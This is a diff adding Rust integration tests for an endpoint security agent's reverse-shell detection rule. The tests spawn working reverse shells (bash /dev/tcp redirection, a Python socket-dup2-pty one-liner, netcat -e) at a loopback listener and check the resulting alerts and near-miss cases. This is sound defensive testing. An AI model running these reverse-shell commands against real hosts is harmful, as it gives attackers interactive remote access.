@@ -376,3 +376,290 @@ os.execv("/proc/self/fd/%d" % fd, ["rg-payload"])
             .all(|r| !(r["record_type"] == "alert" && pid_of(r) == u64::from(plain)))
     );
 }
+
+/// A listener on loopback standing in for the attacker's machine.
+struct Attacker {
+    listener: TcpListener,
+    port: u16,
+}
+
+impl Attacker {
+    fn new() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        Attacker { listener, port }
+    }
+
+    /// Take the shell's connection, run `echo marker; exit` through it,
+    /// and return what came back.
+    fn drive(&self, marker: &str) -> String {
+        let (mut conn, _) = self.listener.accept().unwrap();
+        conn.set_read_timeout(Some(Duration::from_secs(10)))
+            .unwrap();
+        conn.write_all(format!("echo {marker}\nexit\n").as_bytes())
+            .unwrap();
+        let mut out = Vec::new();
+        let _ = conn.read_to_end(&mut out);
+        String::from_utf8_lossy(&out).into_owned()
+    }
+}
+
+/// The rg-reverse-shell alerts whose stdio-socket evidence points at `port`.
+fn shell_alerts(records: &[Value], port: u16) -> Vec<&Value> {
+    alerts(records, "rg-reverse-shell")
+        .into_iter()
+        .filter(|a| {
+            get(a, "rand_guard.alert.evidence")
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|e| get(e, "destination.port") == port)
+        })
+        .collect()
+}
+
+#[test]
+fn reverse_shells_are_critical() {
+    if !privileged("reverse_shells_are_critical") {
+        return;
+    }
+    let agent = Agent::start(CONFIG);
+    let marker = unique("revshell");
+
+    // 1. bash's own /dev/tcp redirection.
+    let bash = Attacker::new();
+    let line = format!(
+        "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{} 0>&1",
+        bash.port
+    );
+    let mut c = Command::new("/bin/bash")
+        .args(["-c", &line])
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let bash_pid = c.id();
+    assert!(bash.drive(&marker).contains(&marker));
+    c.wait().unwrap();
+
+    // 2. python: connect, dup2 onto 0, 1, 2, then a pty shell.
+    let py = Attacker::new();
+    let script = format!(
+        "import socket,os,pty;s=socket.create_connection(('127.0.0.1',{}));\
+         [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
+        py.port
+    );
+    let mut c = Command::new(PYTHON).args(["-c", &script]).spawn().unwrap();
+    let py_pid = c.id();
+    assert!(py.drive(&marker).contains(&marker));
+    c.wait().unwrap();
+
+    // 3. netcat's -e: connect, dup2, exec the shell in the same process.
+    let nc = Attacker::new();
+    let mut c = Command::new("/usr/bin/nc.traditional")
+        .args(["-e", "/bin/sh", "127.0.0.1", &nc.port.to_string()])
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let nc_pid = c.id();
+    assert!(nc.drive(&marker).contains(&marker));
+    c.wait().unwrap();
+
+    // 4. A shell exec'd with the socket already on its stdio (the program
+    // that wired it, this test, is not a shell: the exec is the evidence).
+    let ex = Attacker::new();
+    let conn = TcpStream::connect(("127.0.0.1", ex.port)).unwrap();
+    let mut c = Command::new("/bin/sh")
+        .arg("-i")
+        .stdin(Stdio::from(std::os::fd::OwnedFd::from(
+            conn.try_clone().unwrap(),
+        )))
+        .stdout(Stdio::from(std::os::fd::OwnedFd::from(
+            conn.try_clone().unwrap(),
+        )))
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    drop(conn);
+    let ex_pid = c.id();
+    assert!(ex.drive(&marker).contains(&marker));
+    c.wait().unwrap();
+
+    agent.wait_for("the exec'd shell's alert", |r| {
+        r["record_type"] == "alert"
+            && get(r, "rule.id") == "rg-reverse-shell"
+            && pid_of(r) == u64::from(ex_pid)
+    });
+    std::thread::sleep(Duration::from_millis(200));
+    let (status, records, stderr) = agent.stop();
+    assert!(status.success(), "{stderr}");
+
+    // Each reverse shell: exactly one critical alert, on the right process,
+    // however many subshells and execs its socket went through.
+    let one = |port: u16, what: &str| -> Value {
+        let mine: Vec<&Value> = shell_alerts(&records, port)
+            .into_iter()
+            .filter(|a| get(a, "event.severity") == 99)
+            .collect();
+        assert_eq!(mine.len(), 1, "{what}: {mine:#?}");
+        let a = mine[0].clone();
+        assert_eq!(get(&a, "rule.name"), "Reverse shell");
+        assert_eq!(
+            get(&a, "threat.technique.id"),
+            &serde_json::json!(["T1059.004"])
+        );
+        let ev = evidence(&a);
+        assert_eq!(ev.len(), 2, "{a:#}");
+        assert_eq!(ev[0].0, "exec");
+        assert_eq!(ev[1].0, "stdio_socket");
+        assert_eq!(ev[1].1, pid_of(&a));
+        a
+    };
+    // bash: the redirection is a dup2 in the child bash -c forks for the
+    // command, and the command line of the bash we started says so.
+    let a = one(bash.port, "bash");
+    let inner = pid_of(&a);
+    assert_eq!(get(&a, "process.parent.pid"), bash_pid);
+    assert_eq!(
+        get(&a, "message").as_str().unwrap(),
+        format!(
+            "bash (pid {inner}) has fds 0, 1, 2 on a socket to 127.0.0.1:{} (dup2 gave it): \
+             an interactive shell over the network",
+            bash.port
+        )
+    );
+    let medium: Vec<&Value> = alerts(&records, "rg-reverse-shell")
+        .into_iter()
+        .filter(|a| pid_of(a) == u64::from(bash_pid) && get(a, "event.severity") == 47)
+        .collect();
+    assert_eq!(medium.len(), 1, "{medium:#?}");
+    assert_eq!(
+        get(medium[0], "message").as_str().unwrap(),
+        format!("bash (pid {bash_pid}) started with a network redirection: {line}")
+    );
+
+    let a = one(py.port, "python");
+    assert_eq!(pid_of(&a), u64::from(py_pid));
+    assert_eq!(
+        get(&a, "message").as_str().unwrap(),
+        format!(
+            "python3 (pid {py_pid}) has fds 0, 1 on a socket to 127.0.0.1:{} (dup2 gave it): \
+             an interactive shell over the network",
+            py.port
+        )
+    );
+
+    let a = one(nc.port, "nc");
+    assert_eq!(pid_of(&a), u64::from(nc_pid));
+    assert_eq!(get(&a, "process.name"), "nc.traditional");
+
+    let a = one(ex.port, "exec");
+    assert_eq!(pid_of(&a), u64::from(ex_pid));
+    assert_eq!(
+        get(&a, "message").as_str().unwrap(),
+        format!(
+            "sh (pid {ex_pid}) has fds 0, 1 on a socket to 127.0.0.1:{} (started with): \
+             an interactive shell over the network",
+            ex.port
+        )
+    );
+    // The telemetry behind it.
+    let ev: Vec<&Value> = records
+        .iter()
+        .filter(|r| {
+            r["record_type"] == "event"
+                && get(r, "event.action") == "stdio_socket"
+                && pid_of(r) == u64::from(ex_pid)
+                && get(r, "rand_guard.network.syscall") == "execve"
+        })
+        .collect();
+    assert_eq!(ev.len(), 1, "{ev:#?}");
+    assert_eq!(
+        get(ev[0], "rand_guard.network.stdio_fds"),
+        &serde_json::json!([0, 1])
+    );
+    assert_eq!(get(ev[0], "network.transport"), "tcp");
+    assert_eq!(get(ev[0], "destination.port"), ex.port);
+    assert!(
+        get(ev[0], "rand_guard.network.socket_inode")
+            .as_u64()
+            .unwrap()
+            > 0
+    );
+}
+
+#[test]
+fn near_misses_do_not_raise_reverse_shell() {
+    if !privileged("near_misses_do_not_raise_reverse_shell") {
+        return;
+    }
+    let agent = Agent::start(CONFIG);
+    let marker = unique("revmiss");
+
+    // A program that is no shell serving a connection on its stdio (what
+    // an inetd-style service looks like): telemetry, no alert.
+    let srv = Attacker::new();
+    let conn = TcpStream::connect(("127.0.0.1", srv.port)).unwrap();
+    let mut c = Command::new("/bin/cat")
+        .stdin(Stdio::from(std::os::fd::OwnedFd::from(
+            conn.try_clone().unwrap(),
+        )))
+        .stdout(Stdio::from(std::os::fd::OwnedFd::from(
+            conn.try_clone().unwrap(),
+        )))
+        .spawn()
+        .unwrap();
+    drop(conn);
+    let cat_pid = c.id();
+    let echoed = srv.drive(&marker);
+    assert!(echoed.contains(&marker), "{echoed}");
+    c.wait().unwrap();
+
+    // A shell whose output alone goes to a socket (stdin is not one).
+    let out = Attacker::new();
+    let conn = TcpStream::connect(("127.0.0.1", out.port)).unwrap();
+    let mut c = Command::new("/bin/sh")
+        .args(["-c", &format!("echo {marker}")])
+        .stdin(Stdio::null())
+        .stdout(Stdio::from(std::os::fd::OwnedFd::from(conn)))
+        .spawn()
+        .unwrap();
+    let sh_pid = c.id();
+    let (mut accepted, _) = out.listener.accept().unwrap();
+    let mut got = String::new();
+    accepted.read_to_string(&mut got).unwrap();
+    assert!(got.contains(&marker));
+    c.wait().unwrap();
+
+    // A script that merely mentions /dev/tcp/ is no redirection.
+    let mut c = Command::new(PYTHON)
+        .args(["-c", &format!("print('/dev/tcp/127.0.0.1/9 {marker}')")])
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    let py_pid = c.id();
+    c.wait().unwrap();
+
+    agent.wait_for("the cat's stdio-socket event", |r| {
+        get(r, "event.action") == "stdio_socket" && pid_of(r) == u64::from(cat_pid)
+    });
+    // And the python's exec, so the agent has seen everything.
+    agent.wait_for("the python's exec", |r| {
+        get(r, "event.action") == "exec" && pid_of(r) == u64::from(py_pid)
+    });
+    let (status, records, stderr) = agent.stop();
+    assert!(status.success(), "{stderr}");
+    for pid in [cat_pid, sh_pid, py_pid] {
+        let mine: Vec<&Value> = records
+            .iter()
+            .filter(|r| r["record_type"] == "alert" && pid_of(r) == u64::from(pid))
+            .collect();
+        assert!(mine.is_empty(), "{mine:#?}");
+    }
+    assert!(shell_alerts(&records, srv.port).is_empty());
+    // The shell with only its output on a socket makes no stdio record.
+    assert!(
+        records
+            .iter()
+            .all(|r| !(get(r, "event.action") == "stdio_socket" && pid_of(r) == u64::from(sh_pid)))
+    );
+}
